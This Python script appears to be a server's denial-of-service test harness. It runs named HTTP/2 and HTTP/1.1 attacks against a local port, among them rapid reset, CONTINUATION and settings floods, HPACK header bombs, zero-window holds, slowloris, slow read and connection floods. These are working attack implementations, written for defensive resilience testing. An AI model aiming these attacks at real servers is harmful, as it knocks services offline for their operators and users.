# SPDX-License-Identifier: Apache-2.0
"""Attackers, each a program of its own: attackers.py NAME PORT SECONDS CONNECTIONS. Each comes from an address of its own, runs at the lowest
priority (a real one has its own machine), begins again when it is thrown out, and prints what it did as JSON."""
import json
import os
import pathlib
import socket
import sys
import threading
import time

sys.dont_write_bytecode = True
sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "conformance"))
from h2wire import *  # noqa: E402, F403

ATTACKS = {}
BIG = "/openapi.json"  # the largest answer that needs no key


class Attack:
    """What one attacker does: `connections` threads, each calls `once` with a new connection until time is up."""

    def __init__(self, name, port, seconds):
        self.port, self.end, self.source = port, time.monotonic() + seconds, f"127.0.1.{1 + list(ATTACKS).index(name)}"
        self.counts = {"connections": 0, "thrown_out": 0, "bytes": 0}
        self.lock = threading.Lock()

    def add(self, **more):
        with self.lock:
            for name, value in more.items():
                self.counts[name] += value

    def over(self):
        return time.monotonic() >= self.end

    def connect(self, receive_buffer=0):
        one = socket.socket()
        if receive_buffer:
            one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        one.bind((self.source, 0))
        one.settimeout(0.5)
        one.connect(("127.0.0.1", self.port))
        self.add(connections=1)
        return one

    def send(self, one, data, drain=True):
        """False when thrown out, or time is up. What the server says is read and dropped unless `drain` is off."""
        if self.over():
            return False
        try:
            one.settimeout(0.2)
            at = 0
            while at < len(data) and not self.over():
                try:
                    at += one.send(data[at : at + 65536])
                except TimeoutError:
                    if not drain:
                        return True
                if drain:
                    one.settimeout(0)
                    try:
                        while got := one.recv(262144):
                            pass
                        if not got:
                            raise ConnectionResetError
                    except BlockingIOError:
                        pass
                    one.settimeout(0.2)
            self.add(bytes=at)
            return True
        except OSError:
            self.add(thrown_out=1)
            return False

    def hold(self, one, tick=None, pause=0.2):
        """Keeps it open, reading nothing, until it is closed or time is up; `tick` sends a little now and then."""
        while not self.over():
            time.sleep(pause)
            if tick and not self.send(one, tick(), drain=False):
                return
            if not tick:
                one.settimeout(0)
                try:
                    if one.recv(1, socket.MSG_PEEK) == b"":
                        self.add(thrown_out=1)
                        return
                except BlockingIOError:
                    pass
                except OSError:
                    self.add(thrown_out=1)
                    return


def attack(function):
    ATTACKS[function.__name__] = function
    return function


def flood(of, *pairs):
    """An attack that sends the same over and over, behind a preface and `first`."""
    def run(a, one):
        chunk = of
        if a.send(one, PREFACE + settings(*pairs)):
            while a.send(one, chunk):
                pass

    return run


def streams(each, count=100, first=1):
    """`each(id)` for so many streams."""
    return b"".join(each(first + 2 * n) for n in range(count))


def by_streams(each, *pairs, before=b""):
    """An attack on ever new streams."""
    def run(a, one):
        first = 1
        alive = a.send(one, PREFACE + settings(*pairs) + before)
        while alive:
            alive = a.send(one, streams(each, first=first))
            first += 200

    return run


def held(fields, *, window=0, connection_window=0, receive_buffer=0):
    """A hundred requests whose answers nobody takes."""
    def run(a, one):
        data = PREFACE + settings((INITIAL_WINDOW_SIZE, window)) + (window_update(0, connection_window) if connection_window else b"")
        if a.send(one, data + streams(lambda n: headers(n, fields)), drain=False):
            a.hold(one)

    run.receive_buffer = receive_buffer
    return run


POST = request("/v1/videos", "POST", [("content-type", "application/json")])
GET = hpack(request())

ATTACKS["rapid_reset"] = by_streams(lambda n: headers(n, request("/v1/videos")) + rst(n))
ATTACKS["continuation_flood"] = flood(headers(1, flags=0) + frame(CONTINUATION, 0, 1, hpack([("a", "b" * 1000)] * 16)) * 50)
ATTACKS["empty_continuations"] = flood(headers(1, flags=0) + frame(CONTINUATION, 0, 1) * 5000)
ATTACKS["made_you_reset"] = by_streams(lambda n: headers(n, POST, end=False) + window_update(n, (1 << 31) - 1))
ATTACKS["data_dribble"] = flood(streams(lambda n: window_update(n, 1)) * 10, (INITIAL_WINDOW_SIZE, 0))
ATTACKS["ping_flood"] = flood(ping() * 5000)
ATTACKS["resource_loop"] = flood(b"".join(priority(1 + 2 * n, 1 + 2 * (n * 7 % 97), n % 256) for n in range(5000)))
ATTACKS["reset_flood"] = by_streams(lambda n: headers(n, request(more=[("Bad", "x")])))
ATTACKS["settings_flood"] = flood(settings((INITIAL_WINDOW_SIZE, 1)) * 5000)
ATTACKS["large_settings"] = flood(settings(*[(0x99, 1)] * 2700))
ATTACKS["zero_length_headers"] = by_streams(lambda n: headers(n, block=GET + b"\x00\x00\x00" * 1500))
ATTACKS["internal_buffering"] = held(request(BIG), window=(1 << 31) - 1, connection_window=(1 << 30), receive_buffer=4096)
ATTACKS["empty_frames"] = flood(headers(1, POST, end=False) + frame(DATA, 0, 1) * 5000)
ATTACKS["zero_window_hold"] = held(request(BIG))
ATTACKS["zero_window_errors"] = held(request("/v1/videos"))
ATTACKS["zero_window_metrics"] = held(request("/metrics"))
ATTACKS["window_update_flood"] = flood(window_update(0, 1) * 5000)
ATTACKS["unknown_frames"] = flood(frame(0x42, 0, 0, b"x" * 32) * 2000)
ATTACKS["lower_stream_ids"] = flood(headers(99) + b"".join(headers(1 + 2 * n) for n in range(40)))


@attack
def header_bomb(a, one):
    """HPACK: one byte names a field of 300; 60,000 of them in one block."""
    entry = hpack([("x-bomb", "v" * 300)], index=True)
    block = GET + entry + b"\xbe" * 60000
    parts = [block[at : at + 16384] for at in range(0, len(block), 16384)]
    data = headers(1, block=parts[0], flags=0) + b"".join(frame(CONTINUATION, END_HEADERS if part is parts[-1] else 0, 1, part) for part in parts[1:])
    if a.send(one, PREFACE + settings((INITIAL_WINDOW_SIZE, 0)) + data):
        a.hold(one)


@attack
def header_bomb_within_limits(a, one):
    """90 fields of 300 bytes for 90 bytes on the wire, a hundred times, held on a closed window."""
    entry = hpack([("x-bomb", "v" * 300)], index=True)
    data = headers(1, block=GET + entry) + b"".join(headers(1 + 2 * n, block=GET + b"\xbe" * 90) for n in range(1, 100))
    if a.send(one, PREFACE + settings((INITIAL_WINDOW_SIZE, 0)) + data, drain=False):
        a.hold(one)


@attack
def many_crumbs(a, one):
    """Cookie crumbs: each a field."""
    data = streams(lambda n: headers(n, request(more=[("cookie", "a=b")] * 900)))
    if a.send(one, PREFACE + settings((INITIAL_WINDOW_SIZE, 0)) + data, drain=False):
        a.hold(one)


# --- HTTP/1.1 ---

@attack
def slowloris(a, one):
    if a.send(one, b"GET /healthz HTTP/1.1\r\nHost: x\r\n"):
        a.hold(one, lambda: b"X-A: b\r\n")


@attack
def slow_body(a, one):
    if a.send(one, b"POST /v1/videos HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 60000000\r\n\r\n{"):
        a.hold(one, lambda: b" " * 64)


@attack
def slow_read(a, one):
    if a.send(one, f"GET {BIG} HTTP/1.1\r\nHost: x\r\n\r\n".encode() * 400, drain=False):
        a.hold(one)


slow_read.receive_buffer = 4096


@attack
def field_flood(a, one):
    while a.send(one, b"GET /healthz HTTP/1.1\r\nHost: x\r\n" + b"a: b\r\n" * 7000 + b"\r\n"):
        pass


@attack
def pipelining_flood(a, one):
    while a.send(one, b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n" * 2000):
        pass


@attack
def chunk_extensions(a, one):
    head = b"POST /v1/videos HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
    if a.send(one, head):
        while a.send(one, (b"1;" + b"a" * 500 + b"\r\n \r\n") * 200):
            pass


@attack
def empty_lines(a, one):
    while a.send(one, b"\r\n" * 30000):
        pass


@attack
def half_preface(a, one):
    if a.send(one, PREFACE[:20]):
        a.hold(one)


@attack
def connection_flood(a, one):
    """More than one address may have."""
    more = []
    try:
        for _ in range(1200):
            more.append(a.connect())
        while not a.over():
            time.sleep(0.1)
    except OSError:
        pass
    finally:
        for other in more:
            other.close()


def main():
    name, port, seconds, connections = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4])
    os.nice(19)
    function = ATTACKS[name]
    a = Attack(name, port, seconds)

    def work():
        while not a.over():
            try:
                one = a.connect(getattr(function, "receive_buffer", 0))
            except OSError:
                time.sleep(0.05)
                continue
            try:
                function(a, one)
            finally:
                one.close()

    threads = [threading.Thread(target=work, daemon=True) for _ in range(1 if name == "connection_flood" else connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(seconds + 10)
    print(json.dumps(a.counts))


if __name__ == "__main__":
    main()
